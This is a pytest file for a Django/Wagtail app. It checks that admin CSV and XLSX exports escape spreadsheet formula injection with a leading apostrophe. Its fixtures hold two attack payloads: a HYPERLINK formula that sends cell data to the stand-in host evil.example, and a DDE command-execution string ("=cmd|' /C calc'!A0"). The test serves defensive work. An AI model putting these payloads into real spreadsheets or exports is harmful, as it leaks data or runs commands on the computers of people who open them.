"""Every admin export, CSV and XLSX, writes text that a spreadsheet would run as a formula
with a leading apostrophe; numbers, and text that is only a number, are left as they are."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from wagtail.models import Page

from quizzes.bank import category_for_path, questions_save
from quizzes.questions import AnswerData, QuestionData
from tests.factories import AgentProfileFactory, TeamFactory, UserFactory, make_person
from training.exports import spreadsheet_safe
from training.roles import Role

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture(autouse=True)
def _english(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response) -> list[list]:
    data = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", [-5, -2.5, 0, "-5", "+3.25", "-1e3", "张伟", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_an_agent_profile_export_writes_a_formula_name_as_text(client):
    client.force_login(make_person(Role.ADMINISTRATOR))
    AgentProfileFactory(
        employee_no="-1", team=TeamFactory(name="@售后"), user=UserFactory(name=HYPERLINK)
    )
    index = reverse("agent_profiles:index")

    rows = csv_rows(client.get(index, {"export": "csv"}))
    xlsx = xlsx_rows(client.get(index, {"export": "xlsx"}))

    (row,) = [row for row in rows if row[0] == "-1"]
    assert row[1] == "'" + HYPERLINK
    assert row[3] == "'@售后"
    (sheet_row,) = [row for row in xlsx if row[0] == "-1"]
    assert sheet_row[1] == "'" + HYPERLINK


def test_a_question_export_writes_a_formula_text_as_text(client):
    client.force_login(make_person(Role.TRAINER))
    data = QuestionData(
        qtype="single_choice",
        name="=cmd|' /C calc'!A0",
        text="=1+1 是多少？",
        answers=[AnswerData("2", 1.0), AnswerData("3", 0.0)],
    )
    questions_save(questions=[data], category=category_for_path(["公式"]))
    index = reverse("quizzes_questions:index")

    header, row = csv_rows(client.get(index, {"export": "csv"}))

    assert row[0] == "'=cmd|' /C calc'!A0"
    assert row[3] == "'=1+1 是多少？"
    assert row[4] == "1.00"  # the default mark, a number


def test_wagtail_own_reports_are_covered_too(client):
    client.force_login(make_person(Role.ADMINISTRATOR, is_superuser=True))
    root = Page.objects.get(depth=1).get_children().first()
    page = root.add_child(instance=Page(title="=HYPERLINK(1)", slug="formula"))
    page.save_revision().publish()

    rows = csv_rows(client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}))

    assert [row[0] for row in rows if "HYPERLINK" in row[0]] == ["'=HYPERLINK(1)"]
